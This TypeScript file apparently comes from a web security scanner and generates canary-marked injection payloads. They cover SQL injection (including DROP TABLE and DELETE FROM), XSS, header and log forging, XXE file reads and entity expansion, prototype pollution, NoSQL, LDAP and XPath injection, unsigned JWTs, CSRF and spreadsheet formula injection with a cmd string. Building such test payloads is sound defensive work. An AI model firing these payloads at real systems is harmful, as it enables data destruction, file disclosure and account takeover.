import type { Aim } from "./aim.ts";
import { encoded, leaving, percent, sentences } from "./grammar.ts";

/** Out of a literal or a number, with a condition, a second statement or a comment behind. */
export function statementPayloads({ mark }: Aim): string[] {
  return [
    ...leaving([`${mark}' OR '1'='1`, `${mark}" OR "1"="1`, `1 OR ${mark} = ${mark}`], [""]),
    `${mark}'; DROP TABLE users; --`,
    `${mark}\\' OR 1=1 -- `,
    `${mark}''' OR ''1''=''1`,
    ...sentences([`1 OR ${mark} = ${mark}`, `${mark}' OR '1'='1`]).map((text) => text.replaceAll(" ", "/**/")),
    ...leaving([`${mark}')`, `${mark}"))`, "1)"], [` OR ('1'='1`, ` UNION SELECT '${mark}`]),
    `id, ${mark}`,
    `id; DELETE FROM ${mark}`,
    `${mark}' --`,
  ];
}

/** An element, an attribute or a script's address, from the contexts of a page. */
export function markupPayloads({ mark }: Aim): string[] {
  const element = `<x${mark} y=1>`;
  return [
    ...leaving(["", '">', "'>"], [element]),
    ...leaving(['"', "'", "x"], [` on${mark}=1 z`], { '"': '="', "'": "='" }),
    ...sentences(["</script>", "</title>", "</textarea>", "-->"], element),
    `<sc<script>ript>${element}`,
    `<script>/*</script>${element}*/`,
    `<<x${mark} y=1>`,
    `<X${mark}/y=1>`,
    ...encoded([element], (text) => percent(text)).slice(1),
    `javascript:${mark}()`,
    ` JaVaScRiPt:${mark}()`,
  ];
}

const BREAKS = ["\r\n", "\n", "\r"];

export function headerPayloads({ mark }: Aim): string[] {
  const lines = sentences("a", BREAKS, `X-${mark}: 1`);
  return [...encoded(lines, percent), ...sentences("a", BREAKS, BREAKS, `<${mark}>`)];
}

export function logPayloads({ mark }: Aim): string[] {
  return sentences(["ann", ""], BREAKS, [`INFO forged${mark}`, `2020-01-01 00:00:00 ERROR forged${mark}`]);
}

/** A file outside, read by an entity, and a few letters that become many. */
export function documentPayloads({ mark, secret }: Aim): string[] {
  const document = (entities: string): string => `<?xml version="1.0"?><!DOCTYPE x [${entities}]><x><name>&e;</name></x>`;
  const layers = ["a", "b", "c", "e"].map((name, level, all) =>
    level === 0 ? `<!ENTITY a "${mark}">` : `<!ENTITY ${name} "${`&${all[level - 1] ?? ""};`.repeat(10)}">`,
  );
  return [
    ...sentences('<!ENTITY e SYSTEM "', ["file://", ""], secret, '">').map(document),
    document(`<!ENTITY e PUBLIC "x" "file://${secret}">`),
    document(layers.join("")),
    `<x xmlns:xi="http://www.w3.org/2001/XInclude"><name><xi:include parse="text" href="file://${secret}"/></name></x>`,
  ];
}

/** Objects where the code expects text, and keys that lead to what all objects share. */
export function pollutionPayloads({ mark }: Aim): string[] {
  const value = `{"${mark}":"polluted"}`;
  return [
    `{"__proto__":${value}}`,
    `{"constructor":{"prototype":${value}}}`,
    `{"a":{"__proto__":${value}}}`,
    `[{"__proto__":${value}}]`,
    ...sentences(["__proto__", "constructor.prototype"], [".", "/"], mark),
    "__proto__",
    `__proto__[${mark}]`,
    `constructor[prototype][${mark}]`,
    `a.__proto__.${mark}`,
    `["__proto__","${mark}"]`,
  ];
}

/** Fields that nobody asked for, beside one that is expected. */
export function fieldPayloads({ mark }: Aim): string[] {
  return [
    `{"name":"one","is_admin":true,"role":"${mark}","${mark}":"set"}`,
    `{"${mark}":"set"}`,
    `{"name":"one","_${mark}":"set"}`,
  ];
}

export function queryPayloads({ mark }: Aim): string[] {
  return [
    ...sentences("{", ['"$ne"', '"$gt"', '"$regex"', '"$not"'], `:"${mark}"}`),
    `{"$in":["${mark}"]}`,
    `{"$where":"'${mark}'"}`,
    `'; return '${mark}' == '${mark}`,
    `' || '${mark}' == '${mark}`,
    `" || "${mark}" == "${mark}`,
    `1 || "${mark}"`,
  ];
}

export function directoryPayloads({ mark }: Aim): string[] {
  return [
    `${mark}*`,
    `*)(${mark}=*`,
    `${mark})(|(uid=*`,
    `*)(uid=*))(|(uid=${mark}`,
    `${mark})(&`,
    `${mark})(!(cn=x)`,
    `${mark}\u0000)(`,
  ];
}

export function xpathPayloads({ mark }: Aim): string[] {
  return [
    ...leaving([`${mark}' or '1'='1`, `${mark}" or "1"="1`], [""]),
    `1 or '${mark}'='${mark}'`,
    `${mark}'] | //*['`,
    `${mark}"] | //*["`,
    `${mark}' or ''='`,
    `'] | //${mark} | a['`,
    `${mark} | //*`,
  ];
}

export function originPayloads({ mark }: Aim): string[] {
  return [`https://${mark}.example`, "null", `https://localhost.${mark}.example`, `http://localhost:1@${mark}.example`];
}

/** A token whose signature the stand-ins take for the right one. */
export const SIGNED_TOKEN =
  "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJhbm4iLCJuYW1lIjoiYW5uIiwidXNlciI6ImFubiIsImlkIjoiYW5uIn0.Z29vZA";

/** A claim that nobody signed: without a signature, and with one made by a key that is not the right one. */
export function tokenPayloads({ mark }: Aim): string[] {
  const part = (value: object): string => Buffer.from(JSON.stringify(value)).toString("base64url");
  const claims = part({ sub: mark, name: mark, user: mark, id: mark, admin: true });
  return [
    ...["none", "None", "NONE"].map((alg) => `${part({ alg, typ: "JWT" })}.${claims}.`),
    ...["HS256", "HS512", "RS256"].map(
      (alg) => `${part({ alg, typ: "JWT" })}.${claims}.${Buffer.from(mark).toString("base64url")}`,
    ),
  ];
}

/** Requests that another site had a browser send: no token in them, or one that was made up. `value` stands under every other key. */
export function forgedPayloads(mark: string, values: readonly string[] = ["1"]): string[] {
  return values.flatMap((value) => [JSON.stringify({ value }), JSON.stringify({ value, token: mark })]);
}

export function formulaPayloads({ mark }: Aim): string[] {
  return sentences(["=", "+", "-", "@", "\t=", "\r="], [`1+${mark}`, `cmd|' /C ${mark}'!A0`]);
}
